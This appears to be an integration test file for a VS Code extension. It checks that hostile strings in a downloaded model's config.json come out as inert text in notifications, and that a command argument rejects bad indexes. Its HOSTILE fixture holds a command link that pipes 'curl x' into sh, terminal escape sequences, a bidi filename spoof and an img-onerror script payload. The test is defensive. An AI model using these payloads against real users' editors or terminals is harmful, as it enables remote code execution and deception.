// Hostile models and hostile command arguments in the real extension host (issue 14, items 1 and 6):
// a model folder whose config.json carries a command link, terminal sequences and a bidi override in
// model_type and architectures fails with one notification that shows them as inert text (no link,
// no control or format character, cut to a sane length), and the log gets the same; Mask Word's
// `pick` argument — callable by any extension or command link — chooses only among the model's own
// candidates: anything but a whole index within the list changes nothing.
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import * as vscode from 'vscode';
import type { RunOutcome } from '../../src/host/analyses/analysisRunner';
import type { ShownNotice } from '../../src/host/notify';
import { resetWorkbench } from './editorHelpers';
import { EXTENSION_ID, api, setting } from './host';

const HOSTILE =
  '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D) \u001b]8;;https://x\u0007link\u001b]8;;\u0007 \u001b[2J\u009b31m\u202Eexe.txt\u200B <img src=x onerror=alert(1)>';

/** Nothing VS Code could render as a link or a tag, and no control or format character. */
function assertInert(text: string): void {
  assert.doesNotMatch(text, /\]\(/u, `a Markdown link in ${JSON.stringify(text)}`);
  assert.doesNotMatch(text, /<[A-Za-z/!?]/u, `a tag in ${JSON.stringify(text)}`);
  assert.doesNotMatch(text, /[\p{Cc}\p{Cf}\u2028\u2029]/u, `a control or format character in ${JSON.stringify(text)}`);
}

describe('Hostile models and arguments in the extension host', function () {
  this.timeout(120_000);
  let folder = '';

  before(() => {
    // The embedded decoder, copied, with a config.json a hostile hub repository could serve.
    const extension = vscode.extensions.getExtension(EXTENSION_ID)!;
    folder = path.join(mkdtempSync(path.join(os.tmpdir(), 'lens-hostile-')), 'hostile-gpt');
    cpSync(path.join(extension.extensionPath, 'models', 'tiny-gpt-es-en'), folder, { recursive: true });
    const config = JSON.parse(readFileSync(path.join(folder, 'config.json'), 'utf8')) as Record<string, unknown>;
    writeFileSync(path.join(folder, 'config.json'), JSON.stringify({ ...config, model_type: HOSTILE.repeat(20), architectures: [HOSTILE] }));
  });

  after(async () => {
    for (const key of ['decoderModel', 'analyzeWith']) await setting(key, undefined);
    await resetWorkbench();
    rmSync(path.dirname(folder), { recursive: true, force: true });
  });

  it('a config.json with a command link and terminal sequences fails with one inert notification', async () => {
    const lens = await api();
    await setting('decoderModel', folder);
    await setting('analyzeWith', 'decoder');
    const document = await vscode.workspace.openTextDocument({ content: 'return a + b;', language: 'typescript' });
    const editor = await vscode.window.showTextDocument(document);
    editor.selection = new vscode.Selection(0, 0, 0, document.getText().length);
    const shown: ShownNotice[] = [];
    const sub = lens.onDidNotify((n) => shown.push(n));
    try {
      const outcome = (await vscode.commands.executeCommand('attentionLens.analyzeSelection')) as RunOutcome;
      await new Promise((r) => setTimeout(r, 500));
      assert.equal(outcome.ok, false);
      if (!outcome.ok) {
        assert.equal(outcome.code, 'unsupported-architecture');
        assertInert(outcome.message);
      }
    } finally {
      sub.dispose();
    }
    assert.equal(shown.length, 1, JSON.stringify(shown));
    const [notice] = shown;
    assertInert(notice.message);
    assert.match(notice.message, /unsupported architecture "\[Fix it\] \(command:/);
    assert.ok(notice.message.includes('\\x1B]8;;https://x\\x07link'), 'the escape is shown as text');
    assert.ok(notice.message.includes('\\u202Eexe.txt\\u200B ‹img'), 'bidi and zero-width characters are shown as text');
    assert.ok([...notice.message].length <= 400, `${[...notice.message].length} characters`);
    for (const action of notice.actions) assertInert(action);
    assertInert(lens.status().detail);
  });

  it("Mask Word's pick argument chooses only a whole index within the model's list", async () => {
    await setting('decoderModel', undefined);
    const text = 'The river bank was steep, so we sat on the grass and watched the water.';
    const document = await vscode.workspace.openTextDocument({ content: text, language: 'markdown' });
    const editor = await vscode.window.showTextDocument(document);
    const start = text.indexOf('watched');
    editor.selection = new vscode.Selection(document.positionAt(start), document.positionAt(start + 'watched'.length));
    for (const pick of [-1, 1.5, 1e9, '0', null, { valueOf: 0 }, Number.NaN]) {
      const outcome = (await vscode.commands.executeCommand('attentionLens.maskWord', { pick })) as RunOutcome & { applied?: string | null };
      assert.ok(outcome.ok, JSON.stringify(outcome));
      assert.equal(outcome.applied, null, `pick ${String(pick)} applied nothing`);
      assert.equal(document.getText(), text, `pick ${String(pick)} left the text as it was`);
    }
    const picks = (await vscode.commands.executeCommand('attentionLens.maskWord', { picks: [-3] })) as RunOutcome & { applied?: string | null };
    assert.equal(picks.ok && picks.applied, null);
    assert.equal(document.getText(), text);
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
  });
});
